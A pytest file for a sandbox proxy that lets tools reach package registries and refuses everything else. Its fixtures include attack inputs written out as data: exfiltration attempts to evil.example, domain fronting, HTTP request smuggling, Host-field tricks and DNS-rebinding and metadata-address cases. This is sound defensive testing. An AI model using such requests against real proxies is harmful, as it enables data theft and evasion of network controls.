"""The proxy to registries: ordinary tools pass by their environment alone, and what is not listed does not."""

from __future__ import annotations

import asyncio
import shutil
import ssl
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

from sandbox.config import PackageRule, PackagesExitConfig
from sandbox.egress.packages import CERTIFICATE, PackagesExit
from tests.sandbox.egress.conftest import NAME, at_home, opened, said, tunnelled

CURL = shutil.which("curl")
FETCH = "import sys, urllib.request as r; sys.stdout.buffer.write(r.urlopen(sys.argv[1]).read())"
POST = """
import sys, urllib.error, urllib.request as r
try:
    r.urlopen(r.Request(sys.argv[1], data=b"secret", method=sys.argv[2]))
except urllib.error.HTTPError as error:
    print(error.code, error.read().decode())
"""


def surroundings(exit_: PackagesExit, port: int, folder: Path) -> dict[str, str]:
    """Exactly what a program inside would be told, but for the port and the certificate's place."""
    (folder / "ca.pem").write_bytes(exit_.files()[CERTIFICATE])
    told = {
        name: value.replace(CERTIFICATE, str(folder / "ca.pem")).replace(f":{exit_.port}", f":{port}", 1)
        for name, value in exit_.environment().items()
    }
    return told | {"HOME": str(folder), "PATH": "/usr/bin:/bin", "PIP_CONFIG_FILE": "/dev/null"}


async def ran(*argv: str, env: Mapping[str, str]) -> tuple[int, str]:
    process = await asyncio.create_subprocess_exec(
        *argv, env=dict(env), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
    )
    async with asyncio.timeout(60):
        said, _ = await process.communicate()
    return process.returncode or 0, said.decode("utf-8", "replace")


@pytest.mark.slow
async def test_pip_installs_a_wheel_by_the_environment_alone(proxy, registry, log, tmp_path: Path) -> None:
    exit_ = proxy(pip_index=f"https://{registry.place}/simple/")
    async with opened(exit_) as port:
        code, output = await ran(
            *(sys.executable, "-m", "pip", "install", "--no-deps", "--disable-pip-version-check", "--no-cache-dir"),
            *("--target", str(tmp_path / "site"), "demo"),
            env=surroundings(exit_, port, tmp_path),
        )
    assert (code, (tmp_path / "site" / "demo.py").read_text()) == (0, "ANSWER = 42\n"), output
    assert [path for _, path, _, _ in registry.seen] == ["/simple/demo/", "/files/demo-1.0-py3-none-any.whl"]
    assert log.records == ()


async def test_python_reads_and_may_not_write(proxy, registry, log, tmp_path: Path) -> None:
    exit_ = proxy()
    url = f"https://{registry.place}/simple/demo/"
    async with opened(exit_) as port:
        env = surroundings(exit_, port, tmp_path)
        code, page = await ran(sys.executable, "-c", FETCH, url, env=env)
        _, put = await ran(sys.executable, "-c", POST, url, "PUT", env=env)
    assert code == 0
    assert "demo-1.0-py3-none-any.whl" in page
    assert put.startswith(f"403 PUT is not among the methods listed for {NAME}: GET, HEAD")
    assert [method for method, *_ in registry.seen] == ["GET"]
    [denied] = log.records
    assert (denied.task, denied.host, denied.port, denied.method) == ("T7", NAME, registry.port, "PUT")


@pytest.mark.skipif(CURL is None, reason="needs curl")
async def test_curl_reads_and_is_told_why_it_may_not_write(proxy, registry, tmp_path: Path) -> None:
    exit_ = proxy()
    url = f"https://{registry.place}/simple/demo/"
    async with opened(exit_) as port:
        env = surroundings(exit_, port, tmp_path)
        code, page = await ran("curl", "-sS", url, env=env)
        _, refused = await ran("curl", "-sS", "-d", "secret", url, env=env)
        other, elsewhere = await ran("curl", "-sS", "https://evil.example/", env=env)
    assert (code, "demo-1.0" in page) == (0, True)
    assert "POST is not among the methods listed" in refused
    assert (other != 0, "403" in elsewhere) == (True, True)
    assert [method for method, *_ in registry.seen] == ["GET"]


async def test_a_listed_method_and_path_passes_with_its_body(proxy, registry) -> None:
    rule = PackageRule(methods=("GET", "POST"), paths=("/simple",))
    body = b"POST /simple/audit HTTP/1.1\r\nHost: %b\r\nContent-Length: 5\r\n\r\nhello" % registry.place.encode()
    other = b"GET /files/x HTTP/1.1\r\nHost: %b\r\n\r\n" % registry.place.encode()
    async with opened(proxy(rule)) as port:
        answer = await tunnelled(port, registry.place, body + other)
    assert b"404 Not Found" in answer
    assert b"its path is not among those listed" in answer
    assert [(method, path, data) for method, path, _, data in registry.seen] == [("POST", "/simple/audit", b"hello")]


async def test_credentials_cookies_and_own_fields_do_not_travel(proxy, registry) -> None:
    request = (
        "GET /simple/demo/ HTTP/1.1\r\nHost: {place}\r\nAuthorization: Basic c2VjcmV0\r\nCookie: a=secret\r\n"
        "X-Stolen: secret\r\nProxy-Authorization: Basic c2VjcmV0\r\nAccept: text/html\r\n"
        "Connection: close, accept\r\n\r\n"
    )
    async with opened(proxy()) as port:
        answer = await tunnelled(port, registry.place, request.format(place=registry.place).encode())
    assert answer.startswith(b"HTTP/1.1 200")
    assert b"set-cookie" not in answer.lower()
    [(_, _, fields, _)] = registry.seen
    assert {name.lower() for name in fields} == {"host"}


async def test_a_redirect_is_passed_on_and_not_followed(proxy, registry) -> None:
    request = f"GET /moved HTTP/1.1\r\nHost: {registry.place}\r\nConnection: close\r\n\r\n".encode()
    async with opened(proxy()) as port:
        answer = await tunnelled(port, registry.place, request)
    assert b"302" in answer
    assert b"location: https://elsewhere.test/secret" in answer.lower()
    assert len(registry.seen) == 1


async def test_a_connection_serves_request_after_request(proxy, registry) -> None:
    one = f"GET /simple/demo/ HTTP/1.1\r\nHost: {registry.place}\r\n\r\n"
    last = f"HEAD /simple/demo/ HTTP/1.1\r\nHost: {registry.place}\r\nConnection: close\r\n\r\n"
    async with opened(proxy()) as port:
        answer = await tunnelled(port, registry.place, (one + one + last).encode())
    assert answer.count(b"HTTP/1.1 200") == 3
    assert [method for method, *_ in registry.seen] == ["GET", "GET", "HEAD"]


async def test_a_bundle_of_names_for_one_connection_is_refused_by_sni(proxy, registry, log) -> None:
    """Domain fronting: TLS says one name, CONNECT another."""
    request = f"GET /simple/demo/ HTTP/1.1\r\nHost: {registry.place}\r\n\r\n".encode()
    async with opened(proxy()) as port:
        wrong = await tunnelled(port, registry.place, request, sni="evil.example")
        none = await tunnelled(port, registry.place, request, sni=None)
    assert b"421" in wrong
    assert b"TLS names evil.example (SNI), but CONNECT registry.test" in wrong
    assert b"TLS names no host (SNI)" in none
    assert registry.seen == []
    assert {record.task for record in log.records} == {"T7"}


@pytest.mark.parametrize("host", ["evil.example", "registry.test", "registry.test:1", "registry.test@evil.example"])
async def test_a_host_field_that_names_another_is_refused_inside_a_tunnel(proxy, registry, host: str) -> None:
    async with opened(proxy()) as port:
        answer = await tunnelled(port, registry.place, f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    assert b"421" in answer
    assert b"one request names two hosts" in answer
    assert registry.seen == []


INSIDE = {
    "upgrade": ("GET / HTTP/1.1\r\nHost: {p}\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n", b"WebSocket"),
    "connect": ("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n", b"CONNECT inside a tunnel"),
    "absolute": ("GET https://evil.example/ HTTP/1.1\r\nHost: {p}\r\n\r\n", b"two hosts"),
    "downgrade": ("GET http://{p}/ HTTP/1.1\r\nHost: {p}\r\n\r\n", b"two hosts"),
    "body": ("GET / HTTP/1.1\r\nHost: {p}\r\nContent-Length: 6\r\n\r\nsecret", b"with a body"),
    "climb": ("GET /a/%2e%2e/b HTTP/1.1\r\nHost: {p}\r\n\r\n", b"climbs"),
    "fragment": ("GET /a#b HTTP/1.1\r\nHost: {p}\r\n\r\n", b"fragment"),
    "delete": ("DELETE / HTTP/1.1\r\nHost: {p}\r\n\r\n", b"DELETE is not among the methods"),
    "two lengths": ("GET / HTTP/1.1\r\nHost: {p}\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\n", b"twice"),
    "two hosts": ("GET / HTTP/1.1\r\nHost: {p}\r\nHost: {p}\r\n\r\n", b"host twice"),
    "both": (
        "GET / HTTP/1.1\r\nHost: {p}\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"beside",
    ),
    "bare line feed": ("GET / HTTP/1.1\nHost: {p}\n\n", b"bare line feed"),
    "folded": ("GET / HTTP/1.1\r\nHost: {p}\r\nA: b\r\n c\r\n\r\n", b"folded"),
    "http/2": ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"HTTP/2.0 is not spoken"),
    "no http": ("\x16\x03\x01 not http", b"it is not HTTP"),
}


@pytest.mark.parametrize("what", INSIDE)
async def test_what_a_tunnel_carries_is_judged_as_well(proxy, registry, log, what: str) -> None:
    """Relayed CONNECT: claude-code issue 87381. Smuggling: RFC 9112 section 11.2."""
    request, reason = INSIDE[what]
    async with opened(proxy()) as port:
        answer = await tunnelled(port, registry.place, request.format(p=registry.place).encode())
    assert answer[9:10] in {b"4", b"5"}, answer
    assert reason in answer
    assert registry.seen == []
    [denied] = log.records
    assert (denied.task, denied.exit) == ("T7", "packages")


OUTSIDE = {
    "not listed": ("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n", b"not among the hosts"),
    "address": ("CONNECT 1.1.1.1:443 HTTP/1.1\r\nHost: 1.1.1.1:443\r\n\r\n", b"the address 1.1.1.1:443"),
    "number": ("CONNECT 2130706433:443 HTTP/1.1\r\nHost: 2130706433:443\r\n\r\n", b"the address 2130706433"),
    "other port": ("CONNECT registry.test:22 HTTP/1.1\r\nHost: registry.test:22\r\n\r\n", b"not among the hosts"),
    "no port": ("CONNECT registry.test HTTP/1.1\r\nHost: registry.test\r\n\r\n", b"no host and port"),
    "user": ("CONNECT registry.test@evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n", b"no host and port"),
    "host field": ("CONNECT {p} HTTP/1.1\r\nHost: evil.example\r\n\r\n", b"two hosts"),
    "suffix": ("CONNECT evil-{p} HTTP/1.1\r\nHost: evil-{p}\r\n\r\n", b"not among the hosts"),
    "plain http": ("GET http://evil.example/?secret HTTP/1.1\r\nHost: evil.example\r\n\r\n", b"not among the hosts"),
    "plain host": ("GET http://{p}/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", b"two hosts"),
    "plain user": ("GET http://{p}@evil.example/ HTTP/1.1\r\nHost: {p}\r\n\r\n", b"a user beside it"),
    "encoded": ("GET http://registry%2etest/ HTTP/1.1\r\nHost: registry.test\r\n\r\n", b"names no host"),
    "https in the open": ("GET https://{p}/ HTTP/1.1\r\nHost: {p}\r\n\r\n", b"https by CONNECT"),
    "ftp": ("GET ftp://{p}/ HTTP/1.1\r\nHost: {p}\r\n\r\n", b"ftp is not passed on"),
    "origin form": ("GET / HTTP/1.1\r\nHost: {p}\r\n\r\n", b"this is a proxy"),
    "head flood": ("GET / HTTP/1.1\r\n" + "A: b\r\n" * 200 + "\r\n", b"more than 100 fields"),
    "long head": ("GET / HTTP/1.1\r\nA: " + "b" * 40_000 + "\r\n\r\n", b"longer than 32768 bytes"),
    "socks": ("\x05\x01\x00", b"it is not HTTP"),
}


@pytest.mark.parametrize("what", OUTSIDE)
async def test_what_is_not_listed_is_refused_with_its_reason(proxy, registry, log, what: str) -> None:
    """Plain http is held to the same list (claude-code issue 40213)."""
    request, reason = OUTSIDE[what]
    async with opened(proxy()) as port:
        answer = await said(port, request.format(p=registry.place).encode("latin-1"))
    assert answer.startswith(b"HTTP/1.1 4"), answer
    assert reason in answer
    assert registry.seen == []
    assert [record.task for record in log.records] == ["T7"]


async def test_an_empty_list_lets_nothing_out(proxy, registry) -> None:
    """CVE-2025-66479: an empty allowlist was taken for none."""
    async with opened(proxy(hosts=(), rules={})) as port:
        answer = await said(port, f"CONNECT {registry.place} HTTP/1.1\r\nHost: {registry.place}\r\n\r\n".encode())
    assert b"403" in answer
    assert b"no host at all is listed" in answer


async def test_a_tunnel_that_carries_no_tls_is_ended(proxy, registry, log) -> None:
    head = f"CONNECT {registry.place} HTTP/1.1\r\nHost: {registry.place}\r\n\r\n"
    async with opened(proxy()) as port:
        answer = await said(port, f"{head}GET /simple/demo/ HTTP/1.1\r\nHost: {registry.place}\r\n\r\n".encode())
    assert b"TLS is spoken, and nothing else" in answer
    assert registry.seen == []
    assert [record.host for record in log.records] == [NAME]


async def test_plain_http_passes_where_it_is_listed(log, plain_registry) -> None:
    place = plain_registry.place
    exit_ = PackagesExit(PackagesExitConfig(hosts=(place,)), log, find=at_home)
    async with opened(exit_) as port:
        request = f"GET http://{place}/simple/demo/?a=b HTTP/1.1\r\nHost: {place}\r\nConnection: close\r\n\r\n"
        answer = await said(port, request.encode())
    assert b"demo-1.0-py3-none-any.whl" in answer or b"no such page" in answer
    assert [(method, path) for method, path, _, _ in plain_registry.seen] == [("GET", "/simple/demo/?a=b")]


async def test_names_that_lead_to_private_addresses_are_refused(registry, log) -> None:
    async def rebound(host: str, port: int) -> list[str]:
        return {"pypi.org": ["151.101.0.223", "169.254.169.254"], "crates.io": ["127.0.0.1"]}[host]

    exit_ = PackagesExit(PackagesExitConfig(), log, find=rebound)
    for host in ("pypi.org", "crates.io"):
        async with opened(exit_) as port:
            answer = await tunnelled(port, f"{host}:443", f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(), sni=host)
        assert b"403" in answer
        assert b"no public address" in answer
    assert [record.host for record in log.records] == ["pypi.org", "crates.io"]


async def test_the_address_that_was_judged_is_the_one_connected_to(proxy, registry) -> None:
    """DNS rebinding: the second answer would lead elsewhere; nobody asks for it."""
    asked: list[str] = []

    async def once(host: str, port: int) -> list[str]:
        asked.append(host)
        return ["127.0.0.1"] if len(asked) == 1 else ["127.0.0.9"]

    request = f"GET /simple/demo/ HTTP/1.1\r\nHost: {registry.place}\r\nConnection: close\r\n\r\n".encode()
    async with opened(proxy(find=once)) as port:
        answer = await tunnelled(port, registry.place, request)
    assert answer.startswith(b"HTTP/1.1 200")
    assert asked == [NAME]


async def test_a_server_whose_certificate_is_strange_is_not_believed(registry, log) -> None:
    config = PackagesExitConfig(hosts=(registry.place,))
    exit_ = PackagesExit(config, log, find=at_home)
    async with opened(exit_) as port:
        request = f"GET / HTTP/1.1\r\nHost: {registry.place}\r\n\r\n".encode()
        answer = await tunnelled(port, registry.place, request)
    assert b"502" in answer
    assert b"SSL_CERT_FILE" in answer
    assert registry.seen == []


async def test_a_name_without_an_address_is_told(proxy, registry) -> None:
    async def nowhere(host: str, port: int) -> list[str]:
        raise OSError("Name or service not known")

    request = f"GET / HTTP/1.1\r\nHost: {registry.place}\r\n\r\n".encode()
    async with opened(proxy(find=nowhere)) as port:
        answer = await tunnelled(port, registry.place, request)
    assert b"502" in answer
    assert b"has no address that this host knows" in answer


async def test_answers_are_bounded_each_and_in_all(proxy, registry, log) -> None:
    request = f"GET /big HTTP/1.1\r\nHost: {registry.place}\r\n\r\n".encode()
    async with opened(proxy(answer=200_000)) as port:
        assert b"longer than the 200000 bytes" in await tunnelled(port, registry.place, request)
    async with opened(proxy(total=500_000)) as port:
        whole = await tunnelled(port, registry.place, request + request)
        assert whole.count(b"x" * 300_000) == 1
        assert b"has had the 500000 bytes" in whole
    async with opened(proxy(total=500_000), {"sandbox": "another"}) as port:
        assert b"x" * 300_000 in await tunnelled(
            port, registry.place, request.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")
        )
    assert len(log.records) == 2


async def test_a_sandbox_has_a_share_of_connections(proxy, registry) -> None:
    async with opened(proxy(connections=2)) as port:
        held = [await asyncio.open_connection("127.0.0.1", port) for _ in range(2)]
        await asyncio.sleep(0.05)
        answer = await said(port, b"")
        for _, writer in held:
            writer.close()
    assert b"429" in answer
    assert b"at most 2 connections" in answer


@pytest.mark.slow
async def test_the_hosts_own_trust_is_asked_where_it_is_told_by_ssl_cert_file(registry, tmp_path: Path) -> None:
    registry.authority.cert_pem.write_to_path(tmp_path / "ca.pem")
    program = (
        "from sandbox.config import PackagesExitConfig; from sandbox.egress.denied import DeniedLog; "
        "from sandbox.egress.packages import PackagesExit; "
        "print(len(PackagesExit(PackagesExitConfig(), DeniedLog())._trust.get_ca_certs()))"
    )
    code, output = await ran(
        sys.executable, "-c", program, env={"SSL_CERT_FILE": str(tmp_path / "ca.pem"), "SSL_CERT_DIR": str(tmp_path)}
    )
    assert (code, output) == (0, "1\n")


def test_a_rule_of_a_host_that_is_not_listed_is_a_mistake() -> None:
    with pytest.raises(ValueError, match="not listed: pypi"):
        PackagesExitConfig(rules={"pypi.example": PackageRule()})


def test_the_policy_tells_two_lists_apart(log) -> None:
    one, same, other = (PackagesExit(PackagesExitConfig(hosts=(host,)), log) for host in ("a.test", "a.test", "b.test"))
    assert one.policy == same.policy != other.policy


def test_the_environment_names_proxy_certificate_and_index(log) -> None:
    exit_ = PackagesExit(PackagesExitConfig(pip_index="https://mirror.test/simple"), log)
    told = exit_.environment()
    assert told["https_proxy"] == told["ALL_PROXY"] == "http://127.0.0.1:8089"
    assert told["no_proxy"] == "127.0.0.1,localhost"
    assert told["PIP_INDEX_URL"] == "https://mirror.test/simple"
    assert set(exit_.files()) == {told["SSL_CERT_FILE"]} == {told["NODE_EXTRA_CA_CERTS"]}
    assert b"PRIVATE" not in exit_.files()[CERTIFICATE]
    assert isinstance(ssl.create_default_context(cadata=exit_.files()[CERTIFICATE].decode()), ssl.SSLContext)
